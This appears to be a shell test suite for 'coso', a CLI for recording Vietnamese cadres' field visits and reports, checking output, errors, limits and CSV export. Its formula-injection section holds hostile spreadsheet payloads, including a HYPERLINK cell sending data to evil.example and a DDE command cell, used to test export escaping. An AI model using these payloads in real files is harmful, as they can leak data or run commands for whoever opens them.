#!/bin/sh
# tests/cli/test_field.sh BUILD: the field commands of the real `coso`
# binary against a temporary store: what they print, their exit codes, and
# the state they leave (counts, bytes, files).  Run from the repo root.
# Prints "field-cli: N passed, M failed"; exits non-zero if any failed.
set -u
B=$(cd "${1:-build}" && pwd)
. "$(dirname "$0")/lib.sh"
COSO_HOME=$T/home
export COSO_HOME
# json FILE DESC: valid JSON (skipped without python3).
json() {
	if [ -z "$PY" ]; then return; fi
	if "$PY" -m json.tool "$1" >/dev/null 2>&1; then ok; else
		bad "$2: not valid JSON"; cat "$1"; fi
}
# jget FILE EXPR: a value from JSON by a Python expression on `d'.
jget() {
	"$PY" -c "import json,sys; d=json.load(open(sys.argv[1])); print($2)" "$1"
}
# pending: the status --json pending count (by sed if no python3).
pending() {
	"$COSO" status --json >"$T/st.json" 2>/dev/null
	sed -n 's/.*"pending":\([0-9]*\).*/\1/p' "$T/st.json"
}
PY=$(command -v python3 || true)
hex32='^[0-9a-f]\{32\}$'
writes=0

# --- init: stdout is exactly the public key file -------------------------
expect 1 "init without --name" "$COSO" init --cadre c1
expect 0 "init" "$COSO" init --cadre c1 --name "Nguyễn Văn An"
if cmp -s "$T/out" "$COSO_HOME/device.pub"; then ok; else
	bad "init stdout is not device.pub"; cat "$T/out"; fi
contains "$T/out" "coso public key " "init key tag"
same "$(wc -l <"$T/out" | tr -d ' ')" 2 "init prints two lines"
expect 2 "init twice" "$COSO" init --cadre c1 --name "Nguyễn Văn An"
cmp -s "$T/out" /dev/null && ok || bad "refused init printed a key"

# --- units ----------------------------------------------------------------
cat >"$T/units.csv" <<'EOF'
code,name,level,parent_code,valid_from
20,Tỉnh Lạng Sơn,province,,2020-01-01
180,Huyện Tràng Định,district,20,2020-01-01
06043,Xã Đào Viên,commune,180,2020-01-01
182,Huyện Văn Lãng,district,20,2020-01-01
06160,Xã Gia Miễn,commune,182,2020-01-01
EOF
expect 0 "units import" "$COSO" units import "$T/units.csv"
contains "$T/out" "5 units imported" "units count"
# The real unit list shipped with coso (deploy/data).
DATA="$(cd "$(dirname "$0")/../.." && pwd)/deploy/data/lang-son-2024.csv"
expect 0 "units import real" "$COSO" units import "$DATA"
contains "$T/out" "206 units imported" "real units count"
expect 2 "units import missing" "$COSO" units import "$T/nope.csv"
expect 1 "units usage" "$COSO" units import

# --- visits ---------------------------------------------------------------
expect 0 "visit add" "$COSO" visit add --unit 06043 --date 2025-03-10 \
	--purpose "Kiểm tra đường bê tông Thôn 1" \
	--situation "Đường đã đổ xong 600 m" \
	--difficulties "Thiếu xi măng cho đoạn cuối" \
	--proposal "Hỗ trợ 20 tấn xi măng" --direction "Hoàn thành trước 30/4" \
	--outcome "Đường bê tông" --quantity 600 --quantity-unit m \
	--amount 150000000 --outcome "Cống thoát nước" --quantity 2.5 \
	--participant "Bí thư chi bộ" --lat 22.2921 --lon 106.4521
V1=$(cat "$T/out")
writes=$((writes + 1))
echo "$V1" | grep -q "$hex32" && ok || bad "visit id \`$V1'"
same "$(wc -l <"$T/out" | tr -d ' ')" 1 "visit add prints only the id"

# "Kiểm tra" typed in NFD (e + U+0302 + U+0309) is stored in NFC (U+1EC3).
NFD=$(printf 'Ki\145\314\202\314\211m tra c\303\264ng tr\303\254nh')
NFC=$(printf 'Ki\341\273\203m tra c\303\264ng tr\303\254nh')
expect 0 "visit add NFD" "$COSO" visit add --unit 06160 \
	--date 12/03/2025 --purpose "$NFD"
V2=$(cat "$T/out")
writes=$((writes + 1))
expect 0 "visit show NFD json" "$COSO" visit show "$V2" --json
json "$T/out" "visit show json"
contains "$T/out" "\"purpose\":\"$NFC\"" "NFD stored as NFC"
lacks "$T/out" "$NFD" "no NFD bytes kept"
contains "$T/out" '"date":"2025-03-12"' "dd/mm/yyyy date accepted, ISO in JSON"

expect 0 "visit list" "$COSO" visit list
contains "$T/out" "10/03/2025" "list date dd/mm/yyyy"
contains "$T/out" "Xã Đào Viên" "list unit name"
contains "$T/out" "$(echo "$V1" | cut -c25-32)" "list short id (the last 8 digits)"
expect 0 "visit list --unit" "$COSO" visit list --unit 06160
lacks "$T/out" "10/03/2025" "unit filter"
expect 0 "visit list --since" "$COSO" visit list --since 2025-03-11 --json
json "$T/out" "visit list since json"
lacks "$T/out" "$V1" "since filter"
contains "$T/out" "$V2" "since keeps later visit"
expect 0 "visit list json" "$COSO" visit list --json
json "$T/out" "visit list json"
if [ -n "$PY" ]; then
	same "$(jget "$T/out" 'len(d)')" 2 "visit list json count"
fi
expect 0 "visit show" "$COSO" visit show "$V1"
contains "$T/out" "Thiếu xi măng cho đoạn cuối" "show full text"
contains "$T/out" "10/03/2025" "show date"
contains "$T/out" "Đường bê tông" "show outcome"
contains "$T/out" "2.5" "show quantity as decimal"
expect 0 "visit show by the listed suffix" "$COSO" visit show "$(echo "$V1" | cut -c25-32)"
contains "$T/out" "$V1" "suffix resolves to the visit"
expect 0 "visit show prefix json" "$COSO" visit show "$(echo "$V1" | cut -c1-12)" --json
json "$T/out" "visit show json"
contains "$T/out" "\"id\":\"$V1\"" "json id as hex"
contains "$T/out" '"date":"2025-03-10"' "json ISO date"
contains "$T/out" '"amount_vnd":150000000' "json amount"
expect 2 "visit show unknown" "$COSO" visit show 0123456789abcdef

# --- refused input: exit 2, the field named, nothing written -------------
before=$(pending)
same "$before" "$writes" "pending equals signed writes"
expect 2 "unknown unit" "$COSO" visit add --unit 99999 --date 2025-03-10
contains "$T/err" "cannot record visit" "unknown unit framing"
contains "$T/err" "unit" "unknown unit field"
contains "$T/err" "99999" "unknown unit value"
future=$(date -d '+3 days' +%Y-%m-%d 2>/dev/null ||
	"$PY" -c 'import datetime; print(datetime.date.today() + datetime.timedelta(3))')
expect 2 "future date" "$COSO" visit add --unit 06043 --date "$future"
contains "$T/err" "date" "future date field"
expect 2 "bad date" "$COSO" visit add --unit 06043 --date 2025-02-30
contains "$T/err" "date" "bad date field"
expect 2 "invalid UTF-8" "$COSO" visit add --unit 06043 --date 2025-03-10 \
	--purpose "$(printf 'ch\377')"
contains "$T/err" "purpose" "invalid UTF-8 field"
contains "$T/err" "UTF-8" "invalid UTF-8 message"
big=$(head -c 17000 /dev/zero | tr '\0' a)
expect 2 "text over 16 KiB" "$COSO" visit add --unit 06043 \
	--date 2025-03-10 --situation "$big"
contains "$T/err" "situation" "too big field"
expect 2 "bad quantity" "$COSO" visit add --unit 06043 --date 2025-03-10 \
	--outcome x --quantity 1.2345
contains "$T/err" "--quantity" "bad quantity named"
expect 2 "bad latitude" "$COSO" visit add --unit 06043 --date 2025-03-10 \
	--lat 91 --lon 106
contains "$T/err" "--lat" "bad latitude named"
expect 2 "bad period" "$COSO" report new --period 2025-Q5 --unit 06043
contains "$T/err" "period" "bad period field"
contains "$T/err" "2025-Q5" "bad period value"
same "$(pending)" "$before" "refused input wrote nothing"

# --- reports --------------------------------------------------------------
expect 0 "report new" "$COSO" report new --period 2025-Q1 --unit 06043
R=$(cat "$T/out")
echo "$R" | grep -q "$hex32" && ok || bad "report id \`$R'"
same "$(pending)" "$before" "a draft is not signed"
expect 0 "report edit" "$COSO" report edit "$R" --section results \
	--text "Đã đi cơ sở 2 lượt, chỉ đạo hoàn thành đường bê tông"
expect 0 "report edit" "$COSO" report edit "$R" --section situation \
	--text "Tình hình an ninh trật tự ổn định"
expect 0 "report edit" "$COSO" report edit "$R" --section proposals \
	--text "Hỗ trợ xi măng
Sửa cầu treo Thôn 2"
expect 2 "submit with empty section" "$COSO" report submit "$R"
contains "$T/err" "difficulties" "empty section named"
same "$(pending)" "$before" "refused submit wrote nothing"
expect 0 "report edit" "$COSO" report edit "$R" --section difficulties \
	--text "Kinh phí còn hạn chế"
expect 0 "report submit" "$COSO" report submit "$R"
writes=$((writes + 1))
expect 0 "report show json" "$COSO" report show "$R" --json
json "$T/out" "report show json"
cp "$T/out" "$T/report.before"
contains "$T/out" "Kinh phí còn hạn chế" "report section stored"
contains "$T/out" "Sửa cầu treo Thôn 2" "report proposal line"
after_submit=$(pending)
expect 2 "edit after submit" "$COSO" report edit "$R" --section results \
	--text "sửa lại"
contains "$T/err" "cannot edit report" "edit after submit message"
expect 0 "report show again" "$COSO" report show "$R" --json
cmp -s "$T/out" "$T/report.before" && ok || bad "submitted report changed"
same "$(pending)" "$after_submit" "refused edit wrote nothing"
expect 0 "report show" "$COSO" report show "$R"
contains "$T/out" "2025-Q1" "report show period"
expect 0 "report list" "$COSO" report list
contains "$T/out" "submitted" "report list state"
expect 0 "report list json" "$COSO" report list --json
json "$T/out" "report list json"
expect 1 "report edit bad section" "$COSO" report edit "$R" \
	--section nonsense --text x

# --- proposals and handovers ---------------------------------------------
expect 0 "proposal list" "$COSO" proposal list --open
contains "$T/out" "Hỗ trợ 20 tấn xi măng" "visit proposal listed"
contains "$T/out" "Sửa cầu treo Thôn 2" "report proposal listed"
expect 0 "proposal list json" "$COSO" proposal list --json
json "$T/out" "proposal list json"
if [ -n "$PY" ]; then
	same "$(jget "$T/out" 'len(d)')" 3 "three proposals"
fi
expect 0 "handover add" "$COSO" handover add --unit 06043 \
	--text "Bàn giao hồ sơ đường bê tông Thôn 1" --to c2
writes=$((writes + 1))
grep -q "$hex32" "$T/out" && ok || bad "handover id"
expect 2 "handover unknown unit" "$COSO" handover add --unit 99999 \
	--text x
expect 0 "handover list json" "$COSO" handover list --json
json "$T/out" "handover list json"
contains "$T/out" "Bàn giao hồ sơ" "handover listed"

# --- status and log -------------------------------------------------------
expect 0 "status json" "$COSO" status --json
json "$T/out" "status json"
same "$(pending)" "$writes" "pending equals signed writes"
contains "$T/out" '"receipts":0' "status receipts"
expect 0 "status" "$COSO" status
contains "$T/out" "Nguyễn Văn An" "status cadre"
expect 0 "log" "$COSO" log
contains "$T/out" "all signatures and links verify" "log verified"
expect 0 "log json" "$COSO" log --json
json "$T/out" "log json"
if [ -n "$PY" ]; then
	same "$(jget "$T/out" 'len(d)')" "$writes" "log length"
	same "$(jget "$T/out" 'all(r["ok"] == 1 for r in d)')" True "log ok"
	same "$(jget "$T/out" '[r["seq"] for r in d] == list(range(1, len(d) + 1))')" \
		True "log seq contiguous"
fi

# One byte of a stored change-set flipped (with the sqlite3 shell, if
# present, on a copy of the store): log names it and exits 2.
if command -v sqlite3 >/dev/null 2>&1; then
	cp -r "$COSO_HOME" "$T/tampered"
	sqlite3 "$T/tampered/store.db" "UPDATE outbox SET bytes =
	    CASE WHEN substr(bytes, 101, 1) = X'41' THEN
	    substr(bytes, 1, 100) || X'42' || substr(bytes, 102) ELSE
	    substr(bytes, 1, 100) || X'41' || substr(bytes, 102) END
	    WHERE seq = 2"
	expect 2 "log tampered" "$COSO" --store "$T/tampered" log
	contains "$T/err" "change-set 2 fails verification" "log names seq"
else
	echo "note: sqlite3 not found, tampered log skipped"
fi

# --- export ---------------------------------------------------------------
expect 0 "export json" "$COSO" export --format json
json "$T/out" "export json"
if [ -n "$PY" ]; then
	same "$(jget "$T/out" '[len(d[k]) for k in ("visits", "outcomes", "reports", "proposals", "handovers")]')" \
		"[2, 2, 1, 3, 1]" "export json counts"
	same "$(jget "$T/out" '[(o["text"], o["quantity_milli"], o["quantity_unit"], o["amount_vnd"]) for o in d["outcomes"]]')" \
		"[('Đường bê tông', 600000, 'm', 150000000), ('Cống thoát nước', 2500, None, None)]" \
		"export outcomes in thousandths"
fi
expect 0 "export csv file" "$COSO" export --format csv --output "$T/all.csv"
[ -s "$T/all.csv" ] && ok || bad "export csv file empty"
cmp -s "$T/out" /dev/null && ok || bad "export --output printed data"
# For people (test_cadre.sh has the values): Vietnamese headers,
# dd/mm/yyyy dates.
contains "$T/all.csv" "Loại,Mã," "csv header"
contains "$T/all.csv" "Lượt đi cơ sở,$V1," "csv visit row"
contains "$T/all.csv" "10/03/2025" "csv date dd/mm/yyyy"
same "$(grep -c '^Loại,' "$T/all.csv")" 5 "csv a header per kind"
same "$(grep -c "$(printf '^\r$')" "$T/all.csv")" 4 "csv blank lines between kinds"
contains "$T/all.csv" '"Hỗ trợ xi măng
Sửa cầu treo Thôn 2' "csv multi-line field quoted"
expect 0 "export csv bom" "$COSO" export --format csv --bom
same "$(head -c 3 "$T/out" | od -An -tx1 | tr -d ' ')" efbbbf "csv BOM"
expect 1 "export usage" "$COSO" export --format xlsx
ls "$T" | grep -q 'all.csv\.' && bad "export left a temp file" || ok

# --- export: cells a spreadsheet would run as formulas --------------------
# Text starting with = + - @ TAB or CR is written quoted with a leading
# single quote (OWASP); numbers, negative ones too, stay bare numbers.
I="$COSO --store $T/inj"
expect 0 "inj init" $I init --cadre c9 --name "Nguyễn Văn Bình"
expect 0 "inj units" $I units import "$T/units.csv"
expect 0 "inj visit" $I visit add --unit 06043 --date 2025-03-10 \
	--purpose '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")' \
	--situation "+cmd|' /C calc'!A0" --difficulties '@SUM(1+1)' \
	--direction '-2+3' --participant "$(printf '\tTrưởng thôn')" \
	--proposal "$(printf '\rĐề nghị')" --lat -10.5 --lon 106.1 \
	--outcome "-5 hộ thoát nghèo" --quantity 3
expect 0 "inj export" $I export --format csv --output "$T/inj.csv"
contains "$T/inj.csv" \
	'"'"'"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm"")"' "csv ="
contains "$T/inj.csv" "\"'+cmd|' /C calc'!A0\"" "csv +"
contains "$T/inj.csv" "\"'@SUM(1+1)\",\"'-2+3\"" "csv @ and -"
contains "$T/inj.csv" "$(printf '"\047\tTrưởng thôn"')" "csv TAB"
contains "$T/inj.csv" "$(printf '"\047\rĐề nghị"')" "csv CR"
contains "$T/inj.csv" "\"'-5 hộ thoát nghèo\",3," "csv text - and number"
contains "$T/inj.csv" ",-10.500000,106.100000," "csv negative number bare"
# No cell of the file starts with a formula character unguarded (a minus
# only before digits: a number).
same "$(tr -d '\r' <"$T/inj.csv" | grep -c -e '^[-=+@]' -e ',[=+@]' \
	-e ',-[^0-9]' -e "$(printf ',\t')")" 0 "csv no bare formula cell"

# --- languages --------------------------------------------------------------
expect 2 "vi message" env LANGUAGE=vi "$COSO" visit add --unit 99999 \
	--date 2025-03-10
contains "$T/err" "không ghi được lượt đi cơ sở" "Vietnamese framing"
contains "$T/err" "đơn vị không có trong danh mục" "Vietnamese error"
expect 0 "vi table" env LANGUAGE=vi "$COSO" visit list
contains "$T/out" "Ngày" "Vietnamese header"
contains "$T/out" "10/03/2025" "Vietnamese date"
expect 0 "LANG=vi" env LC_ALL= LANG=vi_VN.UTF-8 "$COSO" report list
contains "$T/out" "Kỳ" "LANG=vi header"
contains "$T/out" "đã gửi" "LANG=vi state"
expect 2 "LANGUAGE=en" env LANG=vi_VN.UTF-8 LANGUAGE=en "$COSO" visit add \
	--unit 99999 --date 2025-03-10
contains "$T/err" "cannot record visit" "English fallback"
expect 1 "vi usage" env LANGUAGE=vi "$COSO" visit add
contains "$T/err" "cách dùng:" "Vietnamese usage"

# --- --store, passphrase ------------------------------------------------------
S=$T/other
printf 'mật khẩu Lạng Sơn\n' >"$T/pass"
# The same passphrase typed in NFD: "mật" as a + U+0323 + U+0302.
printf 'ma\314\243\314\202t kh\341\272\251u L\341\272\241ng S\306\241n\n' \
	>"$T/pass.nfd"
expect 0 "init --store" "$COSO" --store "$S" init --cadre c2 \
	--name "Lý Thị Bình" --passphrase-file "$T/pass" \
	--central https://central.example --central-key "$COSO_HOME/device.pub"
cmp -s "$T/out" "$S/device.pub" && ok || bad "--store init key"
expect 0 "units --store" "$COSO" --store "$S" units import "$T/units.csv"
expect 2 "no passphrase" "$COSO" --store "$S" visit add --unit 06043 \
	--date 2025-03-10
contains "$T/err" "passphrase required" "passphrase required message"
expect 0 "NFD passphrase" env COSO_PASSPHRASE_FILE="$T/pass.nfd" "$COSO" \
	--store "$S" visit add --unit 06043 --date 2025-03-10
expect 0 "list --store" "$COSO" --store="$S" visit list --json
json "$T/out" "list --store json"
lacks "$T/out" "$V1" "--store is another store"
expect 0 "status --store" "$COSO" --store "$S" --passphrase-file "$T/pass" \
	status --json
contains "$T/out" '"pending":1' "--store pending"
expect 2 "bad central key" "$COSO" --store "$T/third" init --cadre c3 \
	--name X --central https://c --central-key "not a key"
[ -e "$T/third/store.db" ] && bad "store made with a bad key" || ok
expect 2 "no store" "$COSO" --store "$T/none" visit list

# --- usage errors ---------------------------------------------------------------
expect 1 "no command" "$COSO"
expect 1 "unknown command" "$COSO" frobnicate
expect 1 "--store without dir" "$COSO" --store
expect 1 "unknown global option" "$COSO" --frob visit list
expect 1 "visit no sub" "$COSO" visit
expect 1 "visit add no unit" "$COSO" visit add --date 2025-03-10
expect 1 "quantity before outcome" "$COSO" visit add --unit 06043 \
	--date 2025-03-10 --quantity 3
expect 1 "lat without lon" "$COSO" visit add --unit 06043 \
	--date 2025-03-10 --lat 22
expect 1 "visit list extra" "$COSO" visit list extra
expect 1 "report new no period" "$COSO" report new
expect 1 "status extra" "$COSO" status --frob
expect 0 "help" "$COSO" --help
contains "$T/out" "visit" "help lists visit"
same "$(pending)" "$writes" "usage errors wrote nothing"

# --- limits: refused whole, never cut --------------------------------------
# A cadre id is 1 to 64 bytes everywhere (COSO_ID_MAX): init refuses 65 and
# leaves no store; 64 is kept whole and `status' shows all of it.
id64=$(printf 'c%063d' 0)
name255=$(printf 'N%0254d' 0)
expect 2 "init cadre id 65" "$COSO" --store "$T/l1" init --cadre "${id64}x" \
	--name "Lò Văn Lim"
contains "$T/err" "cadre: 1 to 64 characters are required" "cadre id 65 message"
[ ! -e "$T/l1/device.key" ] && ok || bad "store made for a 65-byte cadre id"
expect 2 "init name 256" "$COSO" --store "$T/l2" init --cadre lim \
	--name "${name255}x"
contains "$T/err" "name: longer than 255 bytes" "name 256 message"
expect 2 "init url 256" "$COSO" --store "$T/l2" init --cadre lim \
	--name "Lò Văn Lim" --central "tcp://$(printf 'h%0244d' 0):5555" \
	--central-key "$COSO_HOME/device.pub"
contains "$T/err" "URL is longer than 255 bytes" "url 256 message"
[ ! -e "$T/l2/device.key" ] && ok || bad "store made for a long name or URL"
expect 0 "init cadre id 64" "$COSO" --store "$T/l3" init --cadre "$id64" \
	--name "$name255"
expect 0 "status cadre id 64" "$COSO" --store "$T/l3" status --json
contains "$T/out" "\"cadre_id\":\"$id64\"" "status shows the whole cadre id"
contains "$T/out" "\"name\":\"$name255\"" "status shows the whole name"
# A unit code over 64 bytes: the whole list refused, nothing stored.
printf 'code,name,level,parent_code,valid_from\n%s,Xã Dài,commune,,2020-01-01\n' \
	"u$(printf '%064d' 0)" >"$T/long.csv"
expect 2 "unit code 65" "$COSO" --store "$T/l3" units import "$T/long.csv"
contains "$T/err" "code: longer than 64 characters" "unit code 65 message"
expect 2 "unit code 65 vi" env LANGUAGE=vi "$COSO" --store "$T/l3" units \
	import "$T/long.csv"
contains "$T/err" "mã: dài quá 64 ký tự" "unit code 65 message in Vietnamese"
expect 0 "units after refusal" "$COSO" --store "$T/l3" status --json
contains "$T/out" '"units":0' "no unit stored"
# A store that cannot count its receipts: `status' says so and fails,
# rather than show zeros.
sqlite3 "$T/l3/store.db" "ALTER TABLE receipts RENAME TO receipts_gone"
expect 2 "status on a broken store" "$COSO" --store "$T/l3" status
contains "$T/err" "cannot read status" "broken store message"
contains "$T/err" "no such table: receipts" "broken store cause"
# A passphrase file whose line is over 1024 bytes: refused, no store.
printf '%01025d\n' 0 >"$T/longpass"
expect 2 "passphrase 1025" "$COSO" --store "$T/l4" init --cadre lim \
	--name "Lò Văn Lim" --passphrase-file "$T/longpass"
contains "$T/err" "longer than 1024 bytes" "passphrase 1025 message"
[ ! -e "$T/l4/device.key" ] && ok || bad "store made with a cut passphrase"

echo "field-cli: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
